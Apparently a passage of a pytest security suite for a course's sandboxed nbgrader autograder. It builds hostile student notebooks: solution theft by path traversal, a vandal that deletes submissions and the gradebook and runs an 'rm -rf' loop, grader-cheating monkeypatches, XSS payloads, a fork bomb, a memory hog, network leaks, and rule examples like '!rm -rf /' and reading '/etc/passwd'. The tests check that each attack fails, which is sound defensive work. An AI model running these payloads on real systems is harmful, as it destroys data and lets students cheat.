"""Autograding is safe with the course's ``nbgrader_config.py``: hostile submissions earn nothing
and break nothing (exercises/README.md, "Security model"; ENGINEERING.md, "Exercises and grading").

Every submission is graded by the real ``nbgrader autograde`` in a temporary copy of the course
folder (``source/``, ``course_grading/`` and the config), as an instructor runs it. The hostile
submissions of set 1, all graded in one run:

- ``reads-source`` opens ``../../../source/<set>/<set>.ipynb`` and runs its solutions;
  ``sneaky-reader`` finds the instructor's source by walking up from its folder, without a
  single suspicious name (the tamper check does not see it: only the sandbox stops it; a
  second run without the sandbox shows that it would earn every point);
- ``zz-vandal`` (graded last) deletes and edits its classmates' submissions and results, its own
  submission, the gradebook and its backups, now and from background processes that keep trying;
- ``monkeypatch`` rebinds numpy's comparisons and answers one task wrongly; ``monkeypatch-
  reviewed`` is the same notebook, accepted by the instructor after review;
- ``display-tricks`` makes the test cells show a value (nbgrader would read it as points) and
  puts JavaScript into a written answer and into outputs (for the grader's browser);
- ``flood`` prints 55 million characters; ``memory-hog`` allocates memory without end;
  ``forker`` forks until the system says no; ``network`` connects to a server of the grader's
  machine and to the internet.

``solution`` (the source notebook) must still earn every point and ``untouched`` (the release)
none. After the run: every other submission, every other result, the gradebook and its backups
are intact, and no process of a submission is left.
"""

from __future__ import annotations

import ast
import copy
import csv
import hashlib
import html
import json
import os
import re
import shutil
import socket
import sqlite3
import subprocess
import sys
import time
from html.parser import HTMLParser
from pathlib import Path

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_output
from nbgrader import utils
from nbgrader.api import Gradebook

ROOT = Path(__file__).resolve().parents[1]
EXERCISES = ROOT / "exercises"
sys.path.insert(0, str(EXERCISES))
from course_grading import backup, parallel  # noqa: E402
from course_grading.preprocessors import HideHiddenTests, NoPartialCredit  # noqa: E402
from course_grading.sandbox import OPT_OUT_VARIABLE  # noqa: E402
from course_grading.tamper import check_cells  # noqa: E402
from course_grading.throughput import environment_for as nbgrader_environment  # noqa: E402

SET = "ex01-linear-regression"
COURSE_ID = "lr2dnn"
MARKER = "314.159"   # the argument of the `sleep` processes the hostile submissions start

# The sandbox needs Linux and bubblewrap (.ci/run installs it). Without them the tests are
# skipped with a message saying so, except in CI (CI=true), where they must run.
_MISSING = ("the grading sandbox needs Linux" if not sys.platform.startswith("linux") else
            "the grading sandbox needs bubblewrap: sudo apt-get install bubblewrap"
            if shutil.which("bwrap") is None else "")


# --------------------------------------------------------------------- the set's structure

def read(path: Path):
    return nbformat.read(path, as_version=4)


def meta(cell) -> dict:
    return cell.metadata.get("nbgrader", {})


def source_notebook(set_name: str = SET):
    return read(EXERCISES / "source" / set_name / f"{set_name}.ipynb")


def release_notebook(set_name: str = SET):
    return read(EXERCISES / "release" / set_name / f"{set_name}.ipynb")


def is_test(cell) -> bool:
    return cell.cell_type == "code" and meta(cell).get("grade") and not meta(cell).get("solution")


def answer_cells(notebook) -> list[str]:
    """grade_ids of the code cells students write, in order."""
    return [meta(c)["grade_id"] for c in notebook.cells if c.cell_type == "code" and meta(c).get("solution")]


def points_of_tests(notebook) -> list[tuple[int, str, float]]:
    """(position, grade_id, points) of every test cell."""
    return [(i, meta(c)["grade_id"], float(meta(c)["points"])) for i, c in enumerate(notebook.cells) if is_test(c)]


def position(notebook, grade_id: str) -> int:
    return next(i for i, c in enumerate(notebook.cells) if meta(c).get("grade_id") == grade_id)


SOURCE = source_notebook()
ANSWERS = answer_cells(SOURCE)
FIRST, SECOND = ANSWERS[0], ANSWERS[1]
TESTS = points_of_tests(SOURCE)
MAX_POINTS = sum(points for _, _, points in TESTS)
POINTS_BEFORE_SECOND = sum(p for i, _, p in TESTS if i < position(SOURCE, SECOND))


def with_answers(base, replacements: dict[str, str], appended: list[str] = ()):
    """A copy of ``base`` with some answer cells' sources replaced and code cells appended."""
    notebook = copy.deepcopy(base)
    for cell in notebook.cells:
        if meta(cell).get("grade_id") in replacements:
            cell.source = replacements[meta(cell)["grade_id"]]
    notebook.cells += [new_code_cell(source) for source in appended]
    return notebook


# ------------------------------------------------------------------ the hostile submissions

READS_SOURCE = '''
import json
with open("../../../source/{set}/{set}.ipynb") as stream:
    cells = json.load(stream)["cells"]
for cell in cells:
    if cell.get("metadata", {{}}).get("nbgrader", {{}}).get("solution") and cell["cell_type"] == "code":
        exec("".join(cell["source"]))
'''.format(set=SET)

# Not one name the tamper check looks for: only the sandbox keeps the source out of reach.
SNEAKY_READER = '''
import json, os, pathlib, sys
here = pathlib.Path.cwd()
found = None
for folder in here.parents:
    candidate = folder / "source" / here.name / (here.name + ".ipynb")
    if candidate.is_file():
        found = candidate
        break
print("instructor's source:", found)
cells = json.loads(found.read_text())["cells"]
code = "\\n\\n".join("".join(c["source"]) for c in cells
                    if c["cell_type"] == "code" and c.get("metadata", {}).get("nbgrader", {}).get("solution"))
(here / "answers.py").write_text("import numpy as np\\n" + code)
sys.path.insert(0, str(here))
from answers import *
'''
IMPORT_ANSWERS = "from answers import *\n"

VANDAL = '''
import os, pathlib, shutil, subprocess
here = pathlib.Path.cwd()
course = here.parents[2]
report = {}
def attempt(name, action):
    try:
        action()
        report[name] = "done"
    except Exception as error:
        report[name] = type(error).__name__
for student in ("solution", "untouched", "monkeypatch"):
    attempt("rm submitted/" + student, lambda: shutil.rmtree(course / "submitted" / student))
    attempt("rm autograded/" + student, lambda: shutil.rmtree(course / "autograded" / student))
mine = course / "submitted" / here.parent.name / here.name / (here.name + ".ipynb")
attempt("overwrite own submission", lambda: mine.write_text("{}"))
attempt("edit a classmate", lambda: (course / "submitted" / "solution" / here.name / (here.name + ".ipynb")).write_text("{}"))
attempt("truncate gradebook", lambda: open(course / "gradebook.db", "w").close())
attempt("rm gradebook", lambda: os.remove(course / "gradebook.db"))
attempt("rm backups", lambda: shutil.rmtree(course / "gradebook-backups"))
script = f"for i in $(seq 3000); do rm -rf {course}/gradebook.db {course}/submitted {course}/autograded; sleep 0.1; done; sleep MARKER"
attempt("background shell", lambda: subprocess.Popen(["/bin/sh", "-c", script], start_new_session=True))
attempt("daemon", lambda: subprocess.Popen(["/bin/sleep", "MARKER"], start_new_session=True))
print(report)
'''.replace("MARKER", MARKER)

MONKEYPATCH = '''
import numpy as np
np.isclose = lambda *args, **kwargs: True
np.allclose = lambda *args, **kwargs: True
np.testing.assert_allclose = lambda *args, **kwargs: None

def line_through(p1, p2):
    if p1[0] == p2[0]:
        raise ValueError("the two points must have different x")
    return 0.0, 0.0        # wrong, but every comparison now says "equal"
'''

PARTIAL_CREDIT = '''
import sys
show = getattr(sys, "display" + "hook")     # what shows the value of a cell's last line

def mean_absolute_error(y, y_hat):
    show("full marks, please")               # nbgrader would read this as the cell's points
    return -1.0

def mse_cost(y, y_hat):
    show("full marks, please")
    return -1.0
'''

FLOOD = '''
import sys
print("x" * 30_000_000)
for _ in range(20):
    sys.stdout.write("y" * 1_000_000 + "\\n")
sys.stderr.write("z" * 5_000_000)
'''

MEMORY_HOG = '''
import numpy as np
blocks = []
while True:
    blocks.append(np.ones(2**25))       # 256 MB each, written
'''

FORKER = '''
import os
children = []
try:
    while True:
        pid = os.fork()
        if pid == 0:
            os.execv("/bin/sleep", ["sleep", "MARKER"])
        children.append(pid)
except OSError as error:
    print(f"fork failed after {len(children)} children: {error!r}")
'''.replace("MARKER", MARKER)

NETWORK = '''
import socket
for address in [("127.0.0.1", PORT), ("1.1.1.1", 53)]:
    try:
        socket.create_connection(address, timeout=3).sendall(b"leaked answers")
        print("connected to", address)
    except OSError as error:
        print("no connection to", address, repr(error))
try:
    print(socket.getaddrinfo("example.org", 443))
except OSError as error:
    print("no name lookup", repr(error))
'''

XSS_ANSWER = ('My derivation.<script>window.lr2dnnXss()</script>'
              '<img src="x" onerror="lr2dnnXss()">')
XSS_OUTPUT = '''
from IPython.display import HTML, Javascript, display
display(HTML('<b onmouseover="lr2dnnXss()">bold</b><script>lr2dnnXss()</script>'))
display(Javascript("lr2dnnXss()"))
'''


def submissions(port: int) -> dict[str, nbformat.NotebookNode]:
    release, solution = release_notebook(), source_notebook()
    sneaky = {FIRST: SNEAKY_READER, **{grade_id: IMPORT_ANSWERS for grade_id in ANSWERS[1:]}}
    tricks = with_answers(release, {FIRST: PARTIAL_CREDIT}, appended=[XSS_OUTPUT])
    for cell in tricks.cells:
        if cell.cell_type == "markdown" and meta(cell).get("solution"):
            cell.source = XSS_ANSWER
    return {
        "solution": solution,
        "untouched": release,
        "reads-source": with_answers(release, {FIRST: READS_SOURCE}),
        "sneaky-reader": with_answers(release, sneaky),
        "zz-vandal": with_answers(release, {FIRST: VANDAL}),
        "monkeypatch": with_answers(solution, {SECOND: MONKEYPATCH}),
        "monkeypatch-reviewed": with_answers(solution, {SECOND: MONKEYPATCH}),
        "display-tricks": tricks,
        "flood": with_answers(release, {FIRST: FLOOD}),
        "memory-hog": with_answers(release, {FIRST: MEMORY_HOG}),
        "forker": with_answers(release, {FIRST: FORKER}),
        "network": with_answers(release, {FIRST: NETWORK.replace("PORT", str(port))}),
    }


# Expected automatic score of each, out of MAX_POINTS.
EXPECTED = {
    "solution": MAX_POINTS, "untouched": 0, "reads-source": 0, "sneaky-reader": 0, "zz-vandal": 0,
    # the tests of the first task count; from the flagged cell on, no test earns anything
    "monkeypatch": POINTS_BEFORE_SECOND,
    # reviewed and accepted: every test counts, and the rebound comparisons pass the wrong answer
    "monkeypatch-reviewed": MAX_POINTS,
    "display-tricks": 0, "flood": 0, "memory-hog": 0, "forker": 0, "network": 0,
}
FLAGGED = {"reads-source", "zz-vandal", "monkeypatch", "monkeypatch-reviewed", "forker", "network"}


# ---------------------------------------------------------------------------- helpers

def run(course: Path, environment: dict[str, str], *arguments: str, module: str = "nbgrader"):
    return subprocess.run([sys.executable, "-m", module, *arguments], cwd=course, env=environment,
                          capture_output=True, text=True, timeout=900)


def submit(course: Path, student: str, notebook) -> None:
    folder = course / "submitted" / student / SET
    folder.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, folder / f"{SET}.ipynb")


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def files(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): digest(p) for p in sorted(folder.rglob("*")) if p.is_file()}


def scores(course: Path) -> dict[str, float | None]:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        result = {}
        for submission in gradebook.assignment_submissions(SET):
            grades = [g for g in submission.notebooks[0].grades if g.cell_type == "code"]
            result[submission.student.id] = (None if any(g.auto_score is None for g in grades)
                                             else sum(g.score for g in grades))
        return result


def code_grades(course: Path, student: str) -> dict[str, float | None]:
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}", COURSE_ID) as gradebook:
        notebook = gradebook.find_submission_notebook(SET, SET, student)
        return {g.name: g.score for g in notebook.grades if g.cell_type == "code"}


def marker_processes() -> list[str]:
    """Command lines of running processes that a hostile submission started."""
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                command = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode(errors="replace")
            except OSError:
                continue
            if MARKER in command and "pytest" not in command:
                found.append(command)
    return found


def autograded(course: Path, student: str):
    return read(course / "autograded" / student / SET / f"{SET}.ipynb")


def cell_text(cell) -> str:
    parts = []
    for output in cell.get("outputs", []):
        parts.append(output.get("text", ""))
        parts += [output.get("ename", ""), output.get("evalue", "")]
        parts += [v for v in output.get("data", {}).values() if isinstance(v, str)]
    return "\n".join(parts)


def answer_cell(course: Path, student: str, grade_id: str = FIRST):
    return next(c for c in autograded(course, student).cells if meta(c).get("grade_id") == grade_id)


# ----------------------------------------------------------------------------- fixtures

@pytest.fixture(scope="module")
def course(tmp_path_factory):
    """A course folder with set 1 generated (and its gradebook)."""
    if _MISSING:
        if os.environ.get("CI") == "true":
            pytest.fail(_MISSING)
        pytest.skip(_MISSING)
    home = tmp_path_factory.mktemp("security")
    course = home / "course"
    course.mkdir()
    shutil.copytree(EXERCISES / "source" / SET, course / "source" / SET)
    shutil.copytree(EXERCISES / "course_grading", course / "course_grading",
                    ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(EXERCISES / "nbgrader_config.py", course / "nbgrader_config.py")
    environment = nbgrader_environment(home)
    process = run(course, environment, "generate_assignment", SET, "--force")
    assert process.returncode == 0, process.stderr[-3000:]
    return course, environment


@pytest.fixture(scope="module")
def graded(course):
    """Every submission graded in one run; returns the course, its environment, the run, the
    state of the other files before the run, and whether the test server was contacted."""
    course, environment = course
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(5)
    for student, notebook in submissions(listener.getsockname()[1]).items():
        submit(course, student, notebook)
    backups_before = files(course / backup.BACKUP_FOLDER) if (course / backup.BACKUP_FOLDER).exists() else {}
    submitted_before = files(course / "submitted")
    process = run(course, environment, "autograde", SET,
                  f"--TamperCheck.reviewed=monkeypatch-reviewed/{SET}")
    listener.setblocking(False)
    try:
        listener.accept()
        contacted = True
    except BlockingIOError:
        contacted = False
    finally:
        listener.close()
    return course, environment, process, submitted_before, backups_before, contacted


FEEDBACK_FOR = ["solution", "untouched", "monkeypatch", "display-tricks"]


@pytest.fixture(scope="module")
def feedback(graded):
    """Feedback pages for a few graded submissions, made in one run."""
    course, environment = graded[:2]
    others = sorted(set(scores(course)) - set(FEEDBACK_FOR))
    process = run(course, environment, "generate_feedback", SET,
                  "--CourseDirectory.student_id_exclude=" + ",".join(others))
    assert process.returncode == 0, process.stderr[-3000:]
    return course / "feedback"


# -------------------------------------------------------------------------------- tests

def test_the_run_finishes(graded):
    _, _, process, *_ = graded
    # The memory hog's and the forker's kernels survive; nbgrader ends with success.
    assert process.returncode == 0, process.stderr[-5000:]


@pytest.mark.parametrize("student", sorted(EXPECTED))
def test_each_submission_earns_what_it_should(graded, student):
    course = graded[0]
    assert scores(course)[student] == EXPECTED[student], code_grades(course, student)


def test_monkeypatch_keeps_the_points_before_the_flagged_cell(graded):
    course = graded[0]
    grades = code_grades(course, "monkeypatch")
    second = position(SOURCE, SECOND)
    for index, grade_id, points in TESTS:
        assert grades[grade_id] == (points if index < second else 0), grade_id


def test_every_other_file_is_intact(graded):
    course, _, _, submitted_before, backups_before, _ = graded
    now = files(course / "submitted")
    assert {name: now.get(name) for name in submitted_before} == submitted_before, \
        "a submission was changed or deleted"
    assert backups_before.items() <= files(course / backup.BACKUP_FOLDER).items(), "a backup was lost"
    for student in EXPECTED:
        assert (course / "autograded" / student / SET / f"{SET}.ipynb").is_file(), student


def test_the_gradebook_is_intact_and_complete(graded):
    course = graded[0]
    with sqlite3.connect(course / "gradebook.db") as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
    connection.close()
    assert set(EXPECTED) <= set(scores(course)), "a submission is missing from the gradebook"


def test_no_process_of_a_submission_outlives_the_run(graded):
    assert marker_processes() == []


def test_the_vandal_found_nothing_to_break(graded):
    course = graded[0]
    text = cell_text(answer_cell(course, "zz-vandal"))
    lines = [line for line in text.splitlines() if line.startswith("{")]
    assert lines, text[-2000:]
    report = ast.literal_eval(lines[-1])
    assert report["background shell"] == "done" and report["daemon"] == "done", report  # processes start,
    broken = {k: v for k, v in report.items() if v == "done" and k not in {"background shell", "daemon"}}
    assert broken == {}, f"the vandal succeeded at {broken}"                    # but reach nothing


def test_readers_do_not_see_the_instructors_source(graded):
    course = graded[0]
    assert "FileNotFoundError" in cell_text(answer_cell(course, "reads-source"))
    assert "instructor's source: None" in cell_text(answer_cell(course, "sneaky-reader"))


def test_without_the_sandbox_the_sneaky_reader_would_earn_every_point(graded):
    """The opt-out grades as nbgrader does by default: the attack is real, the sandbox stops it."""
    course, environment = graded[:2]
    submit(course, "sneaky-unsandboxed", read(course / "submitted" / "sneaky-reader" / SET / f"{SET}.ipynb"))
    process = run(course, {**environment, OPT_OUT_VARIABLE: "1"}, "autograde", SET,
                  "--student=sneaky-unsandboxed")
    assert process.returncode == 0, process.stderr[-3000:]
    assert f"{OPT_OUT_VARIABLE}=1: grading sneaky-unsandboxed WITHOUT the sandbox" in process.stderr
    assert scores(course)["sneaky-unsandboxed"] == MAX_POINTS


def test_grading_refuses_to_run_without_a_sandbox(graded):
    course, environment = graded[:2]
    submit(course, "refused", source_notebook())
    process = run(course, environment, "autograde", SET, "--student=refused",
                  "--SandboxedKernelManager.bwrap=/nonexistent/bwrap")
    assert process.returncode != 0
    assert "Refusing to autograde: the sandbox for student code cannot start" in process.stderr
    assert "bubblewrap" in process.stderr and f"{OPT_OUT_VARIABLE}=1" in process.stderr
    assert scores(course)["refused"] is None, "no student code may run without the sandbox"


def test_the_tamper_report_lists_the_flagged_submissions(graded):
    course = graded[0]
    with open(course / "tamper-report.csv", newline="") as stream:
        rows = list(csv.DictReader(stream))
    assert {row["student"] for row in rows} == FLAGGED
    assert {row["rule"] for row in rows if row["student"] == "monkeypatch"} == {"rebinds-library"}
    assert {row["status"] for row in rows if row["student"] == "monkeypatch-reviewed"} == {"reviewed: points count"}
    assert all(row["tests_without_points"] for row in rows if row["student"] == "monkeypatch")
    assert "sneaky-reader" not in {row["student"] for row in rows}   # only the sandbox stops it


def test_output_is_limited_with_a_note(graded):
    course = graded[0]
    size = (course / "autograded" / "flood" / SET / f"{SET}.ipynb").stat().st_size
    assert size < 3 * 2**20, f"the flooding submission's notebook has {size} bytes"
    text = cell_text(answer_cell(course, "flood"))
    produced = f"{55_000_000 / 2**20:.1f} MB"   # 55 million characters, counted in MB of 2**20
    assert f"[Output truncated by the grader: this cell produced {produced} of output" in text
    assert "[stderr output truncated]" in text or "z" * 1000 in text   # stderr is kept: it fails a test


def test_memory_processes_and_network_are_limited(graded):
    course, *_, contacted = graded
    assert "MemoryError" in cell_text(answer_cell(course, "memory-hog"))
    forks = re.search(r"fork failed after (\d+) children", cell_text(answer_cell(course, "forker")))
    assert forks and int(forks.group(1)) < 64
    network = cell_text(answer_cell(course, "network"))
    assert "connected to" not in network and network.count("no connection to") == 2
    assert "no name lookup" in network
    assert not contacted, "a submission reached a server on the grader's machine"


def test_no_active_content_reaches_the_instructors_browser(graded, feedback):
    course = graded[0]
    notebook = autograded(course, "display-tricks")
    mimes = {m for c in notebook.cells for o in c.get("outputs", []) for m in o.get("data", {})}
    assert not mimes & {"text/html", "application/javascript"}
    page = (course / "feedback" / "display-tricks" / SET / f"{SET}.html").read_text()
    assert "My derivation." in page
    tags = Tags()
    tags.feed(page)
    assert not [a for a in tags.attributes if a[0].startswith("on")], "an event handler in the page"
    assert not [text for text in tags.scripts if "lr2dnnXss" in text], "a student's script in the page"
    assert "lr2dnnXss" in html.unescape(page)   # shown as text, so the grader sees the attempt


class Tags(HTMLParser):
    """The attributes of every element of a page, and the text of its scripts."""

    def __init__(self):
        super().__init__()
        self.attributes: list[tuple[str, str]] = []
        self.scripts: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self.attributes += [(name.lower(), value or "") for name, value in attrs]
        self._in_script = tag == "script"

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script:
            self.scripts.append(data)


def test_a_backup_is_made_before_each_run(graded):
    course = graded[0]
    copies = backup.list_backups(course / "gradebook.db")
    assert copies, "no backup"
    with Gradebook(f"sqlite:///{copies[0]}", COURSE_ID) as gradebook:   # the state before the first run
        assert gradebook.find_assignment(SET).name == SET
        assert gradebook.assignment_submissions(SET) == []


def test_restore_puts_a_backup_back_and_keeps_the_current_gradebook(graded, tmp_path):
    course = graded[0]
    work = tmp_path / "course"
    work.mkdir()
    backup.sqlite_copy(course / "gradebook.db", work / "gradebook.db")
    first = backup.list_backups(course / "gradebook.db")[0]
    process = subprocess.run([sys.executable, "-m", "course_grading", "restore", str(first)],
                             cwd=work, env={**os.environ, "PYTHONPATH": str(EXERCISES)},
                             capture_output=True, text=True)
    assert process.returncode == 0, process.stderr
    with Gradebook(f"sqlite:///{work / 'gradebook.db'}", COURSE_ID) as gradebook:
        assert gradebook.assignment_submissions(SET) == []
    (saved,) = backup.list_backups(work / "gradebook.db")
    with Gradebook(f"sqlite:///{saved}", COURSE_ID) as gradebook:
        assert len(gradebook.assignment_submissions(SET)) == len(scores(course))


class TextOf(HTMLParser):
    """The text of an HTML page, without tags (so that highlighted code reads as code)."""

    def __init__(self):
        super().__init__()
        self.parts: list[str] = []

    def handle_data(self, data):
        self.parts.append(data)


def hidden_lines(notebook) -> list[str]:
    """The lines of every hidden test region, whitespace-normalised (long enough to be telling),
    that students do not see elsewhere in their copy."""
    visible = {" ".join(line.split()) for cell in release_notebook().cells for line in cell.source.splitlines()}
    lines = []
    for cell in notebook.cells:
        inside = False
        for line in cell.source.splitlines():
            if "BEGIN HIDDEN TESTS" in line:
                inside = True
            elif "END HIDDEN TESTS" in line:
                inside = False
            elif inside and len(line.strip()) >= 12 and " ".join(line.split()) not in visible:
                lines.append(" ".join(line.split()))
    return lines


@pytest.mark.parametrize("student", FEEDBACK_FOR)
def test_feedback_shows_no_hidden_test_source(graded, feedback, student):
    course = graded[0]
    secrets = hidden_lines(SOURCE)
    assert len(secrets) >= 5
    # The grep finds them where they are: in the autograded notebook, rendered without the fix.
    from nbconvert import HTMLExporter
    plain, _ = HTMLExporter().from_notebook_node(autograded(course, student))
    leaky = TextOf()
    leaky.feed(html.unescape(plain))
    assert any(s in " ".join("".join(leaky.parts).split()) for s in secrets)
    page = TextOf()
    page.feed((course / "feedback" / student / SET / f"{SET}.html").read_text())
    text = " ".join("".join(page.parts).split())
    leaked = [s for s in secrets if s in text]
    assert leaked == [], f"the feedback shows hidden test source: {leaked[:3]}"
    assert "Hidden tests passed." in text or "Hidden tests failed." in text


def test_parallel_grading_gives_the_same_scores_and_an_intact_gradebook(graded):
    course, environment = graded[:2]
    students = ["solution", "untouched", "monkeypatch", "display-tricks"]
    process = run(course, environment, "autograde", SET, "--jobs", "2", "--force",
                  "--students=" + ",".join(students), module="course_grading")
    assert process.returncode == 0, process.stderr[-5000:]
    assert "[worker 1]" in process.stderr and "[worker 2]" in process.stderr
    sanitized = re.findall(rf"\[worker \d\] .*Sanitizing .*/submitted/([^/]+)/{SET}/", process.stderr)
    assert sorted(sanitized) == sorted(students), "each submission graded once, by one worker"
    graded_scores = scores(course)
    assert {s: graded_scores[s] for s in students} == {s: EXPECTED[s] for s in students}
    with sqlite3.connect(course / "gradebook.db") as connection:
        assert connection.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        assert connection.execute("PRAGMA journal_mode").fetchone()[0] == "wal"
    connection.close()


# --------------------------------------------------------- the checks on their own (fast)

def test_nbgraders_partial_credit_would_pay_for_a_value_in_a_failing_test():
    cell = new_code_cell("assert f() == 1", metadata={"nbgrader": {
        "grade": True, "solution": False, "grade_id": "t", "points": 2, "locked": True}})
    cell.outputs = [new_output("execute_result", data={"text/plain": "'full marks'"}, execution_count=1),
                    new_output("error", ename="AssertionError", evalue="", traceback=[])]
    assert utils.determine_grade(copy.deepcopy(cell))[0] == 2          # nbgrader alone: full marks
    fixed, _ = NoPartialCredit().preprocess_cell(cell, {}, 0)
    assert utils.determine_grade(fixed)[0] == 0


def test_hidden_test_feedback_keeps_name_and_first_line_only():
    cell = new_code_cell("# visible\n### BEGIN HIDDEN TESTS\nassert secret_formula(3) == 7\n### END HIDDEN TESTS",
                         metadata={"nbgrader": {"grade": True, "solution": False, "grade_id": "t", "points": 1}})
    cell.outputs = [new_output("stream", name="stdout", text="hidden input [1, 2, 3]"),
                    new_output("error", ename="AssertionError", evalue="a single example\nx: array([7])",
                               traceback=["assert secret_formula(3) == 7"])]
    hidden, _ = HideHiddenTests().preprocess_cell(cell, {}, 0)
    assert "secret_formula" not in hidden.source and "# visible" in hidden.source
    assert json.dumps(hidden.outputs).count("secret_formula") == 0 and "[1, 2, 3]" not in json.dumps(hidden.outputs)
    assert hidden.outputs[0].traceback == ["Hidden tests failed. AssertionError: a single example"]


def rules(source: str, tests: str = "assert np.isclose(mse_cost([1], [1]), 0)\nassert isinstance(X_sim, object)") -> set[str]:
    cells = [(0, "import numpy as np\nimport sys\nX_sim = np.ones(3)", "instructor"),
             (1, source, "student"), (2, tests, "test")]
    return {finding.rule for finding in check_cells(cells)}


@pytest.mark.parametrize(("source", "rule"), [
    ("np.isclose = lambda *a, **k: True", "rebinds-library"),
    ("np.testing.assert_allclose = print", "rebinds-library"),
    ("setattr(np, 'allclose', lambda *a: True)", "rebinds-library"),
    ("t = np.testing\nt.assert_allclose = print", "rebinds-library"),
    ("import builtins\nbuiltins.isinstance = lambda *a: True", "rebinds-library"),
    ("sys.modules['numpy'] = object()", "rebinds-library"),
    ("vars(np)['isclose'] = print", "rebinds-library"),
    ("np.__dict__.update(isclose=print)", "rebinds-library"),
    ("del np.isclose", "rebinds-library"),
    ("def isinstance(a, b):\n    return True", "shadows-name"),
    ("import fakenumpy as np", "shadows-name"),
    ("X_sim = None", "shadows-name"),
    ("def f():\n    global np\n    np = None", "shadows-name"),
    ("exec('x = 1')", "dynamic-code"),
    ("import importlib\nm = importlib.import_module('numpy')", "dynamic-code"),
    ("!rm -rf /", "dynamic-code"),
    ("open('../../../source/ex01/ex01.ipynb')", "reads-outside"),
    ("open('/etc/passwd')", "reads-outside"),
    ("import os\nos.chdir('x')", "reads-outside"),
    ("import sys\nf = sys._getframe(1).f_locals", "inspects-grader"),
    ("x = globals()['expected']", "inspects-grader"),
    ("print(In[-1])", "inspects-grader"),
    ("answers = vars()", "inspects-grader"),
    ("import subprocess", "processes"),
    ("import os\nos.system('ls')", "processes"),
    ("import socket", "network"),
    ("import shutil\nshutil.rmtree('x')", "changes-files"),
])
def test_each_rule_flags_its_example(source, rule):
    assert rule in rules(source)


@pytest.mark.parametrize("source", [
    "import numpy as np\ndef mse_cost(y, y_hat):\n    return float(np.mean((np.asarray(y) - y_hat) ** 2) / 2)",
    "w = np.linalg.solve(np.eye(2), np.ones(2))\nx = np.stack([w, w])\nsum = 0\nprint(f'{w}/{x}')",
    "import matplotlib.pyplot as plt\nplt.rcParams['figure.figsize'] = (4, 3)\n%timeit np.ones(3)",
    "from IPython.display import display\ndisplay(np.ones(2))\nclass Model:\n    def fit(self):\n        self.w = 1\n        setattr(self, 'b', 0)",
])
def test_honest_code_is_not_flagged(source):
    assert rules(source) == set()


@pytest.mark.parametrize("set_name", sorted(p.name for p in (EXERCISES / "source").glob("ex*")))
@pytest.mark.parametrize("version", ["source", "release"])
def test_the_course_notebooks_are_not_flagged(set_name, version):
    """Neither the solutions nor the untouched student versions trip the tamper check."""
    notebook = read(EXERCISES / version / set_name / f"{set_name}.ipynb")
    release = {c.source.strip() for c in release_notebook(set_name).cells if c.cell_type == "code"}
    cells = [(i, c.source, "test" if is_test(c) else "student" if meta(c).get("solution") or c.source.strip() not in release else "instructor")
             for i, c in enumerate(notebook.cells) if c.cell_type == "code"]
    assert check_cells(cells) == []


def test_parallel_split_deals_students_round_robin():
    assert parallel.split(["a", "b", "c", "d", "e"], 2) == [["a", "c", "e"], ["b", "d"]]
    assert parallel.split(["a"], 3) == [["a"]]
    with pytest.raises(ValueError, match="jobs must be a positive integer, got 0"):
        parallel.split(["a"], 0)


def test_the_sandbox_hides_the_course_and_makes_its_parents_passable():
    from course_grading.sandbox import bubblewrap_arguments, sandbox_disabled
    arguments = bubblewrap_arguments(
        bwrap="bwrap", read_only=["/opt/course-python", "/srv/repo/lib", "/srv/repo/lib/lr2dnn"],
        hidden=["/srv/repo"], cwd="/srv/repo/exercises/autograded/ada/ex01", connection_file="/tmp/k/kernel.json",
        staged=None, environment={"HOME": "/tmp"}, scratch_bytes=1024, as_root=False)
    text = " ".join(arguments)
    for option in ("--unshare-pid", "--unshare-net", "--unshare-user", "--disable-userns",
                   "--die-with-parent", "--clearenv"):
        assert option in arguments
    assert text.count("--ro-bind /srv/repo/lib /srv/repo/lib") == 1 and "/srv/repo/lib/lr2dnn" not in text
    # the hidden folder is covered by an empty one, then the folders the kernel needs from it
    # are mounted again, and nothing else of it ...
    assert text.index("--tmpfs /srv/repo ") < text.index("--ro-bind /srv/repo/lib")
    sources = [arguments[i + 1] for i, a in enumerate(arguments) if a in {"--ro-bind", "--bind"}]
    assert "/opt/course-python" in sources and "/srv/repo" not in sources
    assert not [s for s in sources if s.startswith("/srv/repo/exercises")]
    # ... and the working folder's parents are made enterable (bubblewrap's own are mode 0700)
    assert "--perms 0755 --dir /srv/repo/exercises/autograded/ada" in text
    assert text.endswith("--tmpfs /srv/repo/exercises/autograded/ada/ex01 --remount-ro /srv/repo --remount-ro /dev "
                         "--remount-ro / --chdir /srv/repo/exercises/autograded/ada/ex01 --")
    # a virtual environment inside the course folder stays visible, the course folder does not
    inside = " ".join(bubblewrap_arguments(
        bwrap="bwrap", read_only=["/srv/course/.venv", "/srv/course"], hidden=["/srv/course"],
        cwd="/srv/course/autograded/ada/ex01", connection_file="/tmp/k/kernel.json", staged=None, environment={},
        scratch_bytes=1, as_root=False))
    assert inside.index("--tmpfs /srv/course ") < inside.index("--ro-bind /srv/course/.venv")
    assert "--ro-bind /srv/course /srv/course" not in inside
    assert "--unshare-user" not in bubblewrap_arguments(
        bwrap="bwrap", read_only=[], hidden=[], cwd="/w", connection_file="/tmp/k/kernel.json", staged=None,
        environment={}, scratch_bytes=1, as_root=True)
    assert sandbox_disabled({OPT_OUT_VARIABLE: "1"})
    assert not any(sandbox_disabled({OPT_OUT_VARIABLE: value}) for value in ("", "0", "yes", "true"))


def test_a_config_without_its_grading_code_refuses_to_grade(tmp_path):
    """If course_grading/ is missing, nbgrader must not fall back to its unsafe defaults."""
    shutil.copy(EXERCISES / "nbgrader_config.py", tmp_path / "nbgrader_config.py")
    probe = ("from traitlets.config.loader import PyFileConfigLoader\n"
